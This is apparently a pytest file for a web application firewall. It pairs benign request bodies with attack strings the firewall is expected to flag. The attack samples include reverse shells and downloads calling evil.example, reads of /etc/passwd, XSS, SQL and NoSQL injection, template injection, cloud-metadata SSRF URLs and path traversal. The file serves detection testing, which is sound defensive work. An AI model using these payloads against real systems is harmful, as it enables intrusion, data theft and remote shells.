"""What honest people and programs send that looks like attacks, each beside an attack that looks like it."""

from __future__ import annotations

import time

import pytest

from bascule.waf.logic.body_values import request_values
from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts import facts_of
from bascule.waf.logic.facts.documents import is_document
from bascule.waf.logic.values import Value

_POD = (
    b"kind: Pod\nmetadata: {name: clock}\nspec:\n  containers:\n  - name: sh\n    image: busybox\n"
    b'    command: ["sh", "-c", "while true; do date; sleep 5; done"]\n\nWhy does that pod not start here?'
)
_PATCH = (
    b"diff --git a/install.sh b/install.sh\n--- a/install.sh\n+++ b/install.sh\n@@ -1,2 +1,3 @@\n mkdir -p /opt/x\n"
    b"+chmod 755 /opt/x; cat /etc/os-release\n"
)
_SCRIPT = (
    b'import subprocess\nout = subprocess.run(["git", "log"])\nprint(out)\nWhy does it say that there is no such file?'
)
_PAGE = b"<p>Write <code>&lt;script src=a.js&gt;&lt;/script&gt;</code> at the end of the page.</p>"
_SQL_IN_PAGE = (
    b"<p>Ask with <a href=\"https://example.org/docs\">this</a>:</p><pre>SELECT * FROM t WHERE a = 'b' OR 1=1;</pre>"
)
_ICON = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M1 2c3 4 5 6 7 8"/></svg>'
_FORWARDED = (
    b"Hello,\n\n-----Original Message-----\nFrom: a@example.org\nTo: b@example.org\nSubject: offer\n\nplease read"
)
_VARIABLE = b"query Users($where: UserFilter) { users(where: $where) { id } }"
_PLACEHOLDERS = (
    b"Dear {{first_name}}, you have {{ coupon.value | round(2) }} left.\n{% if vip %}Thank you.\n{% endif %}\n"
)


@pytest.fixture(scope="module", params=["standard", "advanced"])
def logic(request: pytest.FixtureRequest) -> Logic:
    return Logic.load(request.param)


@pytest.mark.parametrize(
    ("name", "honest", "attack"),
    [
        ("item", _POD, b"host: x\n; cat /etc/passwd\nnc -e /bin/sh evil.example 4444\nid"),
        ("item", _PATCH, _PATCH.replace(b"@@", b"&&").replace(b"diff --git a", b"x")),
        ("item", _SCRIPT, _SCRIPT.partition(b"\nWhy")[0]),
        ("item", _SCRIPT, _SCRIPT.replace(b"\nWhy", b"\n'''\nWhy")),
        ("content", _PAGE, b"<p>x</p><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
        ("content", _PAGE, _PAGE.replace(b"&lt;", b"<").replace(b"&gt;", b">")),
        ("content", _SQL_IN_PAGE, b"<p>x' OR 'a'='a' -- </p>"),
        ("icon", _ICON, _ICON.replace(b"<path ", b'<path onclick="alert(1)" ')),
        ("icon", _ICON, _ICON.replace(b"</svg>", b"<script>alert(1)</script></svg>")),
        ("body", _FORWARDED, b"Hello@example.org\nBcc: many@example.org\n\nplease read"),
        ("body", _FORWARDED, b"Hello\r\n\r\nx\r\n.\r\nMAIL FROM: <a@example.org>\r\nRCPT TO: <b@example.org>\r\n"),
        ("json.query", _VARIABLE, b'{"$where": "this.password.match(/^a/)"}'),
        ("json.query", _VARIABLE, b"query A($where: X) { a(f: \"' || this.a == 'b\", where: {$where: 1}) { id } }; ' || 1==1 || this.a"),
        ("text", _PLACEHOLDERS, b"Dear {{ first_name.__class__ }}, you have {{ 7*7 }} left."),
        ("text", b"In my shop I have $a = $_POST['a']; why is it empty?", b"$a = system($_POST['a']);"),
        ("jql", b"project in (A, B) AND text ~ \"sign-in\" ORDER BY priority DESC, 2", b"x' OR 'a'='a' ORDER BY 2 --"),
        ("jql", b"project in (A, B) ORDER BY 2", b"project in (A) UNION SELECT password, 2 FROM users"),
    ],
)  # fmt: skip
def test_the_honest_is_spared_and_the_attack_found(logic: Logic, name: str, honest: bytes, attack: bytes) -> None:
    assert logic.judge([Value("body", name.encode(), honest)]) == []
    assert logic.judge([Value("body", name.encode(), attack)])


@pytest.mark.parametrize(
    "address", [b"http://localhost:3000", b"http://192.168.1.20:5000/a?b=c", b"https://wiki.lan/x"]
)
def test_fields_that_say_where_somebody_is_have_private_addresses(logic: Logic, address: bytes) -> None:
    for name in (b"website", b"json.profile.homepage", b"dl", b"dr"):
        assert logic.judge([Value("body", name, address)]) == []
        for fetched in (
            b"http://169.254.169.254/latest/meta-data/",
            b"http://a@localhost/",
            b"http://2130706433/",
            b"gopher://localhost:6379/_x",
        ):
            assert logic.judge([Value("body", name, fetched)])


def test_fields_that_are_fetched_from_have_none(logic: Logic) -> None:
    assert logic.judge([Value("body", b"webhook_url", b"http://localhost:3000")])
    assert logic.judge([Value("query", b"image", b"http://192.168.1.20/a.png")])


def test_a_copy_goes_to_a_path(logic: Logic) -> None:
    def judged(where: bytes) -> bool:
        return bool(logic.judge(request_values(b"/dav/a", [(b"destination", where)], b"")))

    assert not judged(b"https://files.example.org/dav/c%20d.txt")
    assert judged(b"https://files.example.org/dav/../../../../etc/passwd")


_DISGUISED = b"version: '3'\nservices:\n  web:\n    image: nginx\n    note: %s\n"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("comment", _DISGUISED % b"; cat /etc/passwd"),
        ("comment", _DISGUISED % b"|id; curl http://evil.example/a"),
        ("comment", _DISGUISED % b'"& nc -e /bin/sh evil.example 4444"'),
        ("comment", _DISGUISED % b"&sleep 10"),
        ("comment", b"a: x; wget http://evil.example/a\nb: c\nd: e\nf: g\n"),
        ("comment", b"[a]\nb = ; ping -c 5 evil.example\nc = d\ne = f\n"),
        ("comment", b"Index: a\n@@ -1 +1 @@\n;cat /etc/passwd\nx\n"),
        ("host", _DISGUISED % b"x; cat /etc/passwd"),
        ("json.job.file", _DISGUISED % b"x | nc evil.example 80"),
    ],
)
def test_no_document_hides_a_command(logic: Logic, name: str, value: bytes) -> None:
    assert logic.judge([Value("body", name.encode(), value)])


@pytest.mark.parametrize(
    "value",
    [
        _DISGUISED % b"&default x",
        _DISGUISED % b"|\n      cd /srv && make; cat VERSION",
        _DISGUISED % b"wget http://mirror.example/a.tar.gz; tar xzf a.tar.gz",
        b"[Service]\nExecStart=/bin/sh -c 'cat /etc/motd; sleep 5'\n; a comment\nUser=www\n",
    ],
)
def test_commands_of_documents_are_quoted(logic: Logic, value: bytes) -> None:
    assert logic.judge([Value("body", b"comment", value)]) == []


def test_documents_keep_to_one_form() -> None:
    assert is_document(b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'a; b'\n")
    assert is_document(b"server {\n  listen 80;\n  # a\n  location / { root /srv; }\n}\n")
    assert not is_document(b"[Unit]\nDescription=x\ncat /etc/passwd\nid\n")
    assert not is_document(b"server {\n  listen 80;\n`id`\n}\n")
    assert not is_document(b"a: b\nc: d\n$(id)\ne: f")
    assert not is_document(b"a: b\nc: d")


@pytest.mark.parametrize(
    ("start", "unit"),
    [
        (b"", b"a: b\n"), (b"", b"<p>&lt;"), (b"<p>", b"&lt;"), (b"<p>", b"&amp;"), (b"", b"\n\n"), (b"", b"{{a}} "),
        (b"<svg>", b"<path d=''/>"), (b"a\n", b"Abb cc dd "), (b"-----\n", b"To: a@b\n\n"), (b"query($where: a", b" $where:"),
        (b"server {\n", b"a "), (b"--- a\n", b"@@ -1"),
    ],
)  # fmt: skip
def test_time_grows_with_the_length_alone(start: bytes, unit: bytes) -> None:
    def seconds(count: int) -> float:
        began = time.process_time()
        facts_of(start + unit * count, "body")
        return time.process_time() - began

    short, long = (min(seconds(count) for _ in range(3)) for count in (1000, 8000))
    assert long < 25 * short + 0.02
